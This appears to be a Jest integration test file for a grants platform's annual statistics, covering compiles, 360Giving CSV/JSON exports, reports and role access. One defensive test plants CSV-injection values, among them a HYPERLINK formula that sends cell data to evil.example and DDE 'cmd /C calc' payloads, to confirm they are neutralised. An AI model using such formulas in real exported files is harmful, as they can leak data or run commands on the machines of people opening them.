import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { INestApplicationContext } from '@nestjs/common';
import Ajv2020 from 'ajv/dist/2020';
import addFormats from 'ajv-formats';
import { DataSource } from 'typeorm';
import { DEFAULT_CRITERIA, fromKopecks, isValidInn, StatisticsService, toKopecks } from '@grants/domain';
import { JobName, JobQueue, QueueName } from '@grants/queue';
import { createWorkerApp } from '@grants/worker/setup';
import {
  createStaff,
  createTestContext,
  FixtureApplication,
  insertStatisticsYear,
  createReviewRound,
  loginAdmin,
  markConsultantAssisted,
  registerNgo,
  Session,
  statisticsYear,
  StatisticsYearFixture,
  TestContext,
} from '@grants/testing';

// ---- expected figures, computed here from the fixture arrays (independently of the SQL) ----

const rate = (a: number, b: number) => (b ? Math.round((a / b) * 10000) / 10000 : 0);
const kop = (v: string | null) => (v === null ? 0n : toKopecks(v));
const sum = (apps: FixtureApplication[], pick: (a: FixtureApplication) => string | null) =>
  fromKopecks(apps.reduce((s, a) => s + kop(pick(a)), 0n));
const roundedMean = (values: number[], digits: number) =>
  values.length ? Math.round((values.reduce((s, v) => s + v, 0) / values.length) * 10 ** digits) / 10 ** digits : null;
const median = (values: number[]) => {
  if (!values.length) return null;
  const s = [...values].sort((a, b) => a - b);
  const m = s.length / 2;
  return Number.isInteger(m) ? (s[m - 1] + s[m]) / 2 : s[Math.floor(m)];
};
const distinct = <T>(xs: T[]) => [...new Set(xs)];

function scope(f: StatisticsYearFixture, year: number) {
  const competitions = f.competitions.filter((c) => c.year === year && !['draft', 'cancelled'].includes(c.status));
  const keys = new Set(competitions.map((c) => c.key));
  return { competitions, apps: f.applications.filter((a) => keys.has(a.competition)) };
}

function assistance(apps: FixtureApplication[]) {
  const submitted = apps.filter((a) => a.submitted);
  const awarded = apps.filter((a) => a.status === 'awarded');
  return {
    applications: apps.length,
    submitted: submitted.length,
    awarded: awarded.length,
    amountAwarded: sum(awarded, (a) => a.awarded),
    successRate: rate(awarded.length, submitted.length),
  };
}

function expectedHeadline(f: StatisticsYearFixture, year: number) {
  const { competitions, apps } = scope(f, year);
  const is = (status: string) => apps.filter((a) => a.status === status);
  const submitted = apps.filter((a) => a.submitted);
  const awarded = is('awarded');
  const applicants = distinct(submitted.map((a) => a.organization));
  const earlierYears = f.competitions
    .filter((c) => c.year < year && !['draft', 'cancelled'].includes(c.status))
    .map((c) => c.key);
  const veterans = new Set(
    f.applications.filter((a) => a.submitted && earlierYears.includes(a.competition)).map((a) => a.organization),
  );
  const awardedK = awarded.reduce((s, a) => s + kop(a.awarded), 0n);
  const announcedBudget = competitions
    .filter((c) => c.status === 'results_announced')
    .reduce((s, c) => s + kop(c.budget), 0n);
  const n = BigInt(awarded.length);
  return {
    competitions: competitions.length,
    applications: {
      started: apps.length,
      drafts: is('draft').length,
      submitted: submitted.length,
      notSubmitted: is('not_submitted').length,
      withdrawn: is('withdrawn').length,
      ineligible: is('ineligible').length,
      pendingDecision: apps.filter((a) => ['submitted', 'under_review', 'reviewed'].includes(a.status)).length,
      awarded: awarded.length,
      notAwarded: is('not_awarded').length,
    },
    organizations: {
      applicants: applicants.length,
      winners: distinct(awarded.map((a) => a.organization)).length,
      firstTime: applicants.filter((o) => !veterans.has(o)).length,
    },
    amounts: {
      requested: sum(submitted, (a) => a.requested),
      awarded: fromKopecks(awardedK),
      coFinancing: sum(awarded, (a) => a.coFinancing),
      coFinancingSubmitted: sum(submitted, (a) => a.coFinancing),
      // Half up to the kopeck, as PostgreSQL's round() does for positive numerics.
      averageAward: n ? fromKopecks((awardedK * 2n + n) / (2n * n)) : '0.00',
      totalBudget: fromKopecks(competitions.reduce((s, c) => s + kop(c.budget), 0n)),
    },
    successRate: rate(awarded.length, submitted.length),
    budgetUtilisation: announcedBudget ? rate(Number(awardedK), Number(announcedBudget)) : null,
    consultantAssisted: assistance(apps.filter((a) => a.assisted)),
    unassisted: assistance(apps.filter((a) => !a.assisted)),
  };
}

function expectedByDirection(f: StatisticsYearFixture, year: number) {
  const { competitions, apps } = scope(f, year);
  const submitted = apps.filter((a) => a.submitted);
  const codes = distinct([
    ...competitions.flatMap((c) => c.directions.map((d) => d.code)),
    ...submitted.map((a) => a.direction),
  ]);
  return codes
    .map((code) => {
      const mine = submitted.filter((a) => a.direction === code);
      const awarded = mine.filter((a) => a.status === 'awarded');
      return {
        direction: code,
        title: competitions.flatMap((c) => c.directions).find((d) => d.code === code)?.title ?? null,
        submitted: mine.length,
        awarded: awarded.length,
        amountAwarded: sum(awarded, (a) => a.awarded),
        successRate: rate(awarded.length, mine.length),
        assistedSubmitted: mine.filter((a) => a.assisted).length,
        assistedAwarded: awarded.filter((a) => a.assisted).length,
      };
    })
    .sort((a, b) => b.submitted - a.submitted || String(a.direction).localeCompare(String(b.direction)));
}

function expectedByCompetition(f: StatisticsYearFixture, year: number, ids: Record<string, string>) {
  return scope(f, year).competitions.map((c) => {
    const apps = f.applications.filter((a) => a.competition === c.key);
    const submitted = apps.filter((a) => a.submitted);
    const awarded = apps.filter((a) => a.status === 'awarded');
    const awardedK = awarded.reduce((s, a) => s + kop(a.awarded), 0n);
    return {
      competitionId: ids[c.key],
      title: c.title,
      status: c.status,
      totalBudget: c.budget,
      started: apps.length,
      submitted: submitted.length,
      awarded: awarded.length,
      notAwarded: apps.filter((a) => a.status === 'not_awarded').length,
      amountRequested: sum(submitted, (a) => a.requested),
      amountAwarded: fromKopecks(awardedK),
      successRate: rate(awarded.length, submitted.length),
      budgetUtilisation: c.status === 'results_announced' ? rate(Number(awardedK), Number(kop(c.budget))) : null,
      assistedSubmitted: submitted.filter((a) => a.assisted).length,
      assistedAwarded: awarded.filter((a) => a.assisted).length,
      averageScore: roundedMean(
        apps.filter((a) => a.score !== null).map((a) => Number(a.score)),
        2,
      ),
    };
  });
}

function expectedReviews(f: StatisticsYearFixture, year: number) {
  const { competitions, apps } = scope(f, year);
  const keys = new Set(apps.map((a) => a.key));
  const submitted = f.reviews.filter((r) => keys.has(r.application) && r.status === 'submitted');
  const maxTotal = DEFAULT_CRITERIA.reduce((s, c) => s + c.weight * c.maxScore, 0);
  const divergent = apps.filter((a) => {
    const totals = submitted.filter((r) => r.application === a.key && !r.isExtra).map((r) => Number(r.total));
    const threshold = competitions.find((c) => c.key === a.competition)!.divergenceThreshold;
    return totals.length >= 2 && Math.max(...totals) - Math.min(...totals) > (threshold / 100) * maxTotal;
  });
  return {
    count: submitted.length,
    extraReviews: submitted.filter((r) => r.isExtra).length,
    averageScore: roundedMean(
      apps.filter((a) => a.score !== null).map((a) => Number(a.score)),
      2,
    ),
    divergenceCases: divergent.length,
    medianTurnaroundHours: median(submitted.map((r) => r.hours!)),
  };
}

function expectedConsultations(f: StatisticsYearFixture, year: number) {
  const keys = new Set(scope(f, year).apps.map((a) => a.key));
  const mine = f.consultations.filter((k) => keys.has(k.application));
  const completed = mine.filter((k) => k.status === 'completed');
  return {
    count: mine.length,
    completed: completed.length,
    medianTurnaroundHours: median(completed.map((k) => k.hours!)),
  };
}

/** A small RFC 4180 reader, to check the export the way a spreadsheet would read it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endField();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += ch;
  }
  if (field || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

// The official schemas, copied unchanged from the shared vendor folder (see its README).
const VENDOR_360 = join(__dirname, 'fixtures/360giving');

/** Ajv (JSON Schema 2020-12) over the vendored 360Giving schemas; the package points at the 1.4.2 URL of the grant schema. */
function giving360PackageValidator() {
  // Both declare draft 2020-12 by its http:// URI, which Ajv does not know by that name: drop it.
  const load = (name: string) => {
    const { $schema: _draft, ...schema } = JSON.parse(readFileSync(join(VENDOR_360, name), 'utf8'));
    return schema;
  };
  const ajv = new Ajv2020({ strict: false, allErrors: true });
  addFormats(ajv);
  const grant = load('360-giving-schema.json');
  ajv.addSchema({
    ...grant,
    $id: 'https://raw.githubusercontent.com/ThreeSixtyGiving/standard/1.4.2/schema/360-giving-schema.json',
  });
  return ajv.compile(load('360-giving-package-schema.json'));
}

describe('Annual statistics', () => {
  let ctx: TestContext;
  let worker: INestApplicationContext;
  let admin: Session;
  let consultant: Session;
  let db: DataSource;
  let ids: Awaited<ReturnType<typeof insertStatisticsYear>>;
  const fixture = statisticsYear();
  const Y = fixture.year;

  const waitForJob = async (jobId: string, until: string[] = ['completed', 'failed'], timeoutMs = 20000) => {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const res = await ctx.http.as(admin).get(`/statistics/jobs/${jobId}`);
      expect(res.status).toBe(200);
      if (until.includes(res.body.state)) return res.body;
      if (Date.now() > deadline) throw new Error(`job ${jobId} still ${res.body.state}`);
      await new Promise((r) => setTimeout(r, 50));
    }
  };

  const compile = async (year: number) => {
    const res = await ctx.http.as(admin).post(`/statistics/${year}/compile`);
    expect(res.status).toBe(202);
    const job = await waitForJob(res.body.jobId);
    expect(job).toMatchObject({ state: 'completed', year, trigger: 'manual', snapshotId: expect.any(String) });
    return job;
  };

  beforeAll(async () => {
    ctx = await createTestContext();
    worker = await createWorkerApp(ctx.config);
    await worker.init();
    admin = await loginAdmin(ctx.http);
    consultant = await createStaff(ctx.http, admin, 'consultant');
    db = ctx.api.get(DataSource);
    ids = await insertStatisticsYear(db, fixture);
  });
  afterAll(async () => {
    await worker?.close();
    await ctx?.close();
  });

  it('answers 404 before the first compile, and 400 for a year that is not one', async () => {
    expect((await ctx.http.as(admin).get(`/statistics/${Y}`)).status).toBe(404);
    expect((await ctx.http.as(admin).get(`/statistics/${Y}/report`)).status).toBe(404);
    for (const bad of ['1999', '2101', 'abc', '2026.5', '-2026']) {
      const res = await ctx.http.as(admin).get(`/statistics/${bad}`);
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
    }
    expect((await ctx.http.as(admin).post('/statistics/20x6/compile')).status).toBe(400);
    expect((await ctx.http.as(admin).get('/statistics/jobs/no-such-job')).status).toBe(404);
  });

  it('compiles on demand into a snapshot whose every figure matches the hand-built year', async () => {
    await compile(Y);
    const res = await ctx.http.as(consultant).get(`/statistics/${Y}`);
    expect(res.status).toBe(200);
    expect(res.body.year).toBe(Y);
    expect(Date.parse(res.body.compiledAt)).not.toBeNaN();
    const f = res.body.figures;

    const current = expectedHeadline(fixture, Y);
    const previous = expectedHeadline(fixture, Y - 1);
    expect(f).toMatchObject(current);
    expect(f.previousYear).toEqual({ year: Y - 1, ...previous });
    expect(f.byDirection).toEqual(expectedByDirection(fixture, Y));
    expect(f.byCompetition).toEqual(expectedByCompetition(fixture, Y, ids.competitions));
    expect(f.reviews).toEqual(expectedReviews(fixture, Y));
    expect(f.consultations).toEqual(expectedConsultations(fixture, Y));

    const pct = (p: number, c: number) => (p === 0 ? null : Math.round(((c - p) / p) * 1000) / 10);
    expect(f.change.applicationsSubmitted).toEqual({
      previous: previous.applications.submitted,
      current: current.applications.submitted,
      delta: current.applications.submitted - previous.applications.submitted,
      percent: pct(previous.applications.submitted, current.applications.submitted),
    });
    expect(f.change.amountAwarded).toEqual({
      previous: previous.amounts.awarded,
      current: current.amounts.awarded,
      delta: fromKopecks(toKopecks(current.amounts.awarded) - toKopecks(previous.amounts.awarded)),
      percent: pct(Number(toKopecks(previous.amounts.awarded)), Number(toKopecks(current.amounts.awarded))),
    });
    expect(f.change.assistedAwarded.current).toBe(current.consultantAssisted.awarded);
    expect(f.change.applicants.previous).toBe(previous.organizations.applicants);

    // Guards against a fixture that silently tests nothing: the year covers every case it claims to.
    expect(current.applications).toMatchObject({
      drafts: 1,
      notSubmitted: 2,
      withdrawn: 2,
      ineligible: 1,
      pendingDecision: 3,
    });
    expect(current.organizations.firstTime).toBeGreaterThan(0);
    expect(current.organizations.firstTime).toBeLessThan(current.organizations.applicants);
    expect(f.reviews.divergenceCases).toBe(3);
  });

  it('mails every admin about the compile, in the snapshot transaction', async () => {
    const rows = await db.query(
      `SELECT n.payload, s.id AS snapshot_id FROM notifications n JOIN statistics_snapshots s ON s.id = (n.payload->>'snapshotId')::uuid
       JOIN users u ON u.id = n.user_id WHERE n.template = 'statistics.compiled' AND u.role = 'admin'`,
    );
    const admins = await db.query(`SELECT id FROM users WHERE role = 'admin'`);
    expect(rows.length).toBe(admins.length);
    expect(rows[0].payload).toMatchObject({
      year: Y,
      headline:
        'В 2026 году грантовую поддержку получили 3 проекта, подготовленных с участием специалистов Ресурсного центра.',
      headlineEn:
        'In 2026, 3 projects prepared with the participation of Resource Center specialists received grant support.',
    });
  });

  it('makes a retried compile job a no-op once its snapshot committed, but not a job that reused an old id', async () => {
    const statistics = ctx.api.get(StatisticsService);
    const count = async () =>
      (await db.query(`SELECT count(*)::int AS n FROM statistics_snapshots WHERE year = 2020`))[0].n;
    const mails = async () =>
      (await db.query(`SELECT count(*)::int AS n FROM notifications WHERE payload->>'year' = '2020'`))[0].n;
    const createdAt = new Date(Date.now() - 1000);
    const first = await statistics.compile(2020, 'retried-job', createdAt);
    const again = await statistics.compile(2020, 'retried-job', createdAt);
    expect(again.snapshotId).toBe(first.snapshotId);
    expect(await count()).toBe(1);
    const mailsAfterRetry = await mails();
    expect(mailsAfterRetry).toBeGreaterThan(0);
    // Same id, created after the first snapshot: a new job (Redis was emptied), so a new snapshot.
    const reused = await statistics.compile(2020, 'retried-job', new Date(Date.parse(first.compiledAt) + 1));
    expect(reused.snapshotId).not.toBe(first.snapshotId);
    expect(await count()).toBe(2);
    expect(await mails()).toBe(mailsAfterRetry * 2);
  });

  it('keeps snapshots immutable: a recompile adds a newer one and leaves the old as it was', async () => {
    const before = await ctx.http.as(admin).get(`/statistics/${Y}`);
    await db.query(`UPDATE applications SET status = 'not_awarded', awarded_amount = NULL WHERE id = $1`, [
      ids.applications.a4,
    ]);
    try {
      await compile(Y);
      const after = await ctx.http.as(admin).get(`/statistics/${Y}`);
      expect(Date.parse(after.body.compiledAt)).toBeGreaterThan(Date.parse(before.body.compiledAt));
      expect(after.body.figures.applications.awarded).toBe(before.body.figures.applications.awarded - 1);
      const stored = await db.query(`SELECT figures FROM statistics_snapshots WHERE year = $1 ORDER BY compiled_at`, [
        Y,
      ]);
      expect(stored).toHaveLength(2);
      expect(stored[0].figures).toEqual(before.body.figures);
    } finally {
      await db.query(`UPDATE applications SET status = 'awarded', awarded_amount = '150000.00' WHERE id = $1`, [
        ids.applications.a4,
      ]);
    }
    await compile(Y);
  });

  it('coalesces announcement compiles of a year while one waits, and runs it', async () => {
    const jobs = ctx.api.get(JobQueue);
    const queue = jobs.queue(QueueName.Statistics);
    await queue.pause();
    let first: string;
    try {
      const a = await jobs.enqueue({ name: JobName.CompileStatistics, data: { year: Y - 1, trigger: 'announcement' } });
      const b = await jobs.enqueue({ name: JobName.CompileStatistics, data: { year: Y - 1, trigger: 'announcement' } });
      const other = await jobs.enqueue({ name: JobName.CompileStatistics, data: { year: Y, trigger: 'announcement' } });
      first = String(a.id);
      expect(String(b.id)).toBe(first);
      expect(String(other.id)).not.toBe(first);
      expect(await waitForJob(first, ['waiting'])).toMatchObject({
        state: 'waiting',
        trigger: 'announcement',
        year: Y - 1,
      });
    } finally {
      await queue.resume();
    }
    const done = await waitForJob(first);
    expect(done.state).toBe('completed');
    // Once it ran, the next announcement queues a fresh compile.
    const again = await jobs.enqueue({
      name: JobName.CompileStatistics,
      data: { year: Y - 1, trigger: 'announcement' },
    });
    expect(String(again.id)).not.toBe(first);
    await waitForJob(String(again.id));
    const snapshot = await ctx.http.as(admin).get(`/statistics/${Y - 1}`);
    expect(snapshot.body.figures).toMatchObject(expectedHeadline(fixture, Y - 1));
  });

  it('recompiles the year after a real results announcement', async () => {
    const year = 2031; // a year of its own, so the hand-built 2026 stays as it is
    const round = await createReviewRound(ctx, {
      year,
      requestedAmounts: ['100000.00', '150000.00'],
      expertsPerApplication: 1,
    });
    const expert = await createStaff(ctx.http, admin, 'expert');
    for (const application of round.applications) {
      const res = await ctx.http.as(admin).post(`/competitions/${round.competitionId}/assignments`, {
        applicationId: application.id,
        expertId: expert.user.id,
      });
      expect(res.status).toBe(201);
    }
    const reviews = (await ctx.http.as(expert).get('/reviews')).body.items as { id: string }[];
    expect(reviews).toHaveLength(2);
    for (const review of reviews) {
      const scores = Object.fromEntries(DEFAULT_CRITERIA.map((c) => [c.code, 8]));
      expect((await ctx.http.as(expert).put(`/reviews/${review.id}`, { scores })).status).toBe(200);
      expect((await ctx.http.as(expert).post(`/reviews/${review.id}/submit`)).status).toBe(200);
    }
    await markConsultantAssisted(ctx, round.applications[0], consultant.user.id);
    const announced = await ctx.http.as(admin).post(`/competitions/${round.competitionId}/results`, {
      awards: [{ applicationId: round.applications[0].id, amount: '100000.00' }],
    });
    expect(announced.status).toBe(200);

    // The announcement enqueues the compile after its commit; wait for the snapshot it writes.
    const deadline = Date.now() + 20000;
    let res = await ctx.http.as(admin).get(`/statistics/${year}`);
    while (res.status === 404 && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 50));
      res = await ctx.http.as(admin).get(`/statistics/${year}`);
    }
    expect(res.status).toBe(200);
    expect(res.body.figures).toMatchObject({
      competitions: 1,
      applications: { submitted: 2, awarded: 1, notAwarded: 1 },
      amounts: { awarded: '100000.00', requested: '250000.00' },
      consultantAssisted: { submitted: 1, awarded: 1, successRate: 1 },
      unassisted: { submitted: 1, awarded: 0, successRate: 0 },
      reviews: { count: 2, averageScore: 80 },
    });
    const [snapshot] = await db.query(`SELECT job_id FROM statistics_snapshots WHERE year = $1`, [year]);
    expect(await waitForJob(snapshot.job_id)).toMatchObject({ state: 'completed', trigger: 'announcement', year });
  });

  it('registers the yearly scheduler at worker start and compiles the previous year when it fires', async () => {
    const jobs = ctx.api.get(JobQueue);
    const scheduler = await jobs.queue(QueueName.Statistics).getJobScheduler('statistics:yearly');
    expect(scheduler).toMatchObject({ pattern: '0 3 15 1 *', tz: 'Asia/Krasnoyarsk', name: JobName.YearlyStatistics });
    expect(scheduler!.next).toBeGreaterThan(Date.now());

    const before = await db.query(`SELECT count(*)::int AS n FROM statistics_snapshots`);
    const fired = await jobs.enqueue({ name: JobName.YearlyStatistics, data: {} });
    const done = await waitForJob(String(fired.id));
    const expectedYear =
      Number(
        new Intl.DateTimeFormat('en-US', { timeZone: 'Asia/Krasnoyarsk', year: 'numeric' }).format(fired.timestamp),
      ) - 1;
    expect(done).toMatchObject({ state: 'completed', trigger: 'yearly', year: expectedYear });
    const [row] = await db.query(`SELECT year, job_id FROM statistics_snapshots WHERE id = $1`, [done.snapshotId]);
    expect(row).toEqual({ year: expectedYear, job_id: String(fired.id) });
    expect((await db.query(`SELECT count(*)::int AS n FROM statistics_snapshots`))[0].n).toBe(before[0].n + 1);
  });

  it('exports the awarded grants as a 360Giving CSV: BOM, the standard columns, one quoted row per grant', async () => {
    const res = await ctx.http.as(consultant).get(`/statistics/${Y}/export.csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.text.charCodeAt(0)).toBe(0xfeff);
    const [header, ...rows] = parseCsv(res.text.slice(1));
    expect(header).toEqual([
      'Identifier',
      'Title',
      'Description',
      'Currency',
      'Amount Awarded',
      'Award Date',
      'Recipient Org:Identifier',
      'Recipient Org:Name',
      'Funding Org:Identifier',
      'Funding Org:Name',
      'Grant Programme:Title',
      'Amount Applied For',
      'Planned Dates:Start Date',
      'Planned Dates:End Date',
      'Beneficiary Location:Name',
    ]);
    const awarded = fixture.applications.filter((a) => a.status === 'awarded' && scope(fixture, Y).apps.includes(a));
    expect(rows).toHaveLength(awarded.length);
    for (const row of rows) expect(row).toHaveLength(header.length);
    const byTitle = new Map(rows.map((r) => [r[1], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
    const a2 = fixture.applications.find((a) => a.key === 'a2')!;
    const o3 = fixture.organizations.find((o) => o.key === 'o3')!;
    expect(byTitle.get(a2.title)).toMatchObject({
      Identifier: expect.stringMatching(/^360G-RC-LESOSIBIRSK-2026-SC1-\d+$/),
      Description: a2.summary,
      Currency: 'RUB',
      'Amount Awarded': a2.awarded,
      'Award Date': '2026-07-01', // 18:00 UTC on 30 June is 1 July in Krasnoyarsk
      'Recipient Org:Identifier': `RU-INN-${o3.inn}`,
      'Recipient Org:Name': o3.name,
      'Funding Org:Identifier': `RU-INN-${ctx.config.values.FUNDER_INN}`,
      'Grant Programme:Title': 'Конкурс c1',
      'Amount Applied For': a2.requested,
      'Planned Dates:Start Date': '2026-08-01',
      'Beneficiary Location:Name': 'г. Лесосибирск',
    });
    expect(res.text).toContain('"Фонд «Культура, ""Север"" и мы»"');
  });

  it('exports the same grants as a 360Giving JSON package', async () => {
    const res = await ctx.http.as(admin).get(`/statistics/${Y}/export.json`);
    expect(res.status).toBe(200);
    const b1 = fixture.applications.find((a) => a.key === 'b1')!;
    expect(res.body.grants).toHaveLength(4);
    const grant = res.body.grants.find((g: { title: string }) => g.title === b1.title);
    expect(grant).toMatchObject({
      id: expect.stringMatching(/^360G-RC-LESOSIBIRSK-2026-SC2-\d+$/),
      currency: 'RUB',
      amountAwarded: 200000,
      amountAppliedFor: 200000,
      awardDate: '2026-09-15',
      recipientOrganization: [{ id: 'RU-INN-2454000011', name: 'АНО «Забота»' }],
      fundingOrganization: [{ id: `RU-INN-${ctx.config.values.FUNDER_INN}`, name: ctx.config.values.FUNDER_NAME }],
      grantProgramme: [{ title: 'Конкурс <малых> грантов & "инициатив"' }],
      plannedDates: [{ startDate: '2026-08-01', endDate: '2026-12-31' }],
    });
    const a2 = fixture.applications.find((a) => a.key === 'a2')!;
    expect(res.body.grants.find((g: { title: string }) => g.title === a2.title).amountAwarded).toBe(240000.5);
  });

  it('neutralises every formula-leading cell of the CSV (OWASP), keeping a plain -5% readable', async () => {
    const a1 = fixture.applications.find((a) => a.key === 'a1')!;
    const o1 = fixture.organizations.find((o) => o.key === 'o1')!;
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
      title: "+cmd|' /C calc'!A0",
      summary: '-5%',
      geography: "\r@SUM(1+1)*cmd|' /C calc'!A0",
    };
    await db.query('UPDATE organizations SET full_name = $2 WHERE id = $1', [ids.organizations.o1, hostile.name]);
    await db.query('UPDATE applications SET title = $2, summary = $3, geography = $4 WHERE id = $1', [
      ids.applications.a1,
      hostile.title,
      hostile.summary,
      hostile.geography,
    ]);
    try {
      const res = await ctx.http.as(admin).get(`/statistics/${Y}/export.csv`);
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(res.text.slice(1));
      const cells = rows.flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      const row = Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[1] === `'${hostile.title}`)![i]]));
      expect(row).toMatchObject({
        Title: `'${hostile.title}`,
        Description: "'-5%",
        'Recipient Org:Name': `'${hostile.name}`,
        'Beneficiary Location:Name': `'${hostile.geography}`,
      });
      expect(res.text).toContain(`,"'-5%",`);
      // JSON is no spreadsheet: the package keeps the text as entered.
      const json = await ctx.http.as(admin).get(`/statistics/${Y}/export.json`);
      const grant = json.body.grants.find((g: { title: string }) => g.title === hostile.title);
      expect(grant).toMatchObject({ description: '-5%', recipientOrganization: [{ name: hostile.name }] });
    } finally {
      await db.query('UPDATE organizations SET full_name = $2 WHERE id = $1', [ids.organizations.o1, o1.name]);
      await db.query('UPDATE applications SET title = $2, summary = $3, geography = $4 WHERE id = $1', [
        ids.applications.a1,
        a1.title,
        a1.summary,
        a1.geography,
      ]);
    }
  });

  it('identifies the funder as RU-INN-<FUNDER_INN>, licenses the package, and validates against the 360Giving schema', async () => {
    const res = await ctx.http.as(admin).get(`/statistics/${Y}/export.json`);
    expect(res.status).toBe(200);
    expect(res.body.license).toBe(ctx.config.values.GRANTS_360_LICENSE);
    const funderId = `RU-INN-${ctx.config.values.FUNDER_INN}`;
    expect(isValidInn(ctx.config.values.FUNDER_INN)).toBe(true);
    for (const grant of res.body.grants) {
      expect(grant.fundingOrganization).toEqual([{ id: funderId, name: ctx.config.values.FUNDER_NAME }]);
      expect(grant.id.startsWith(`${ctx.config.values.GRANTS_360_PREFIX}-`)).toBe(true);
    }
    const validate = giving360PackageValidator();
    const ok = validate(res.body);
    expect(validate.errors ?? []).toEqual([]);
    expect(ok).toBe(true);
  });

  it('renders the Russian annual report with its headline, tables and three SVG charts, all text escaped', async () => {
    const res = await ctx.http.as(consultant).get(`/statistics/${Y}/report`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    const html = res.text;
    expect(html).toContain(
      'В 2026 году грантовую поддержку получили 3 проекта, подготовленных с участием специалистов Ресурсного центра.',
    );
    expect(html).toContain('Специалисты Ресурсного центра провели 9 консультаций');
    expect(html).toContain('По сравнению с 2025 годом число поданных заявок выросло');
    expect(html).toContain('на общую сумму 890\u00a0000,50\u00a0руб.;');
    expect(html).not.toContain('руб..');
    expect(html.match(/<svg /g)).toHaveLength(3);
    expect(html).toContain('<table>');
    expect(html).toContain('Конкурс &lt;малых&gt; грантов &amp; &quot;инициатив&quot;');
    expect(html).not.toContain('<малых>');
    expect(html).not.toMatch(/<script|https?:\/\/(?!www\.w3\.org\/2000\/svg)/);
  });

  it('renders the same report in English with ?lang=en, and answers 400 for a language it does not have', async () => {
    const res = await ctx.http.as(consultant).get(`/statistics/${Y}/report?lang=en`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    const html = res.text;
    expect(html).toContain('<html lang="en">');
    expect(html).toContain(
      'In 2026, 3 projects prepared with the participation of Resource Center specialists received grant support.',
    );
    expect(html).toContain('Resource Center specialists held 9 consultations');
    expect(html).toContain('Compared with 2025, the number of applications submitted rose');
    expect(html).toContain('totalling 890,000.50\u00a0RUB;');
    expect(html).toContain('<caption>By direction</caption><thead><tr><th>Direction</th>');
    expect(html).toContain('Applications and supported projects by direction, 2026');
    expect(html.match(/<svg /g)).toHaveLength(3);
    expect(html).not.toMatch(/руб\.|Поддержано|Ресурсного центра/);
    // The competition's own title is data, shown as given.
    expect(html).toContain('Конкурс &lt;малых&gt; грантов &amp; &quot;инициатив&quot;');

    expect((await ctx.http.as(consultant).get(`/statistics/${Y}/report?lang=ru`)).text).toContain('<html lang="ru">');
    for (const lang of ['xx', 'EN', '']) {
      const bad = await ctx.http.as(consultant).get(`/statistics/${Y}/report?lang=${lang}`);
      expect(bad.status).toBe(400);
      expect(JSON.stringify(bad.body.message)).toContain('lang');
    }
  });

  it('lets admins and consultants read statistics; applicants and experts get 403, anonymous 401', async () => {
    const ngo = await registerNgo(ctx.http);
    const expert = await createStaff(ctx.http, admin, 'expert');
    const reads = [
      `/statistics/${Y}`,
      `/statistics/${Y}/export.csv`,
      `/statistics/${Y}/export.json`,
      `/statistics/${Y}/report`,
    ];
    for (const path of reads) {
      expect((await ctx.http.as(admin).get(path)).status).toBe(200);
      expect((await ctx.http.as(consultant).get(path)).status).toBe(200);
      expect((await ctx.http.as(ngo).get(path)).status).toBe(403);
      expect((await ctx.http.as(expert).get(path)).status).toBe(403);
      expect((await ctx.http.get(path)).status).toBe(401);
    }
    expect((await ctx.http.as(consultant).post(`/statistics/${Y}/compile`)).status).toBe(403);
    expect((await ctx.http.as(ngo).post(`/statistics/${Y}/compile`)).status).toBe(403);
    expect((await ctx.http.post(`/statistics/${Y}/compile`)).status).toBe(401);
    expect((await ctx.http.as(consultant).get('/statistics/jobs/1')).status).toBe(403);
  });
});
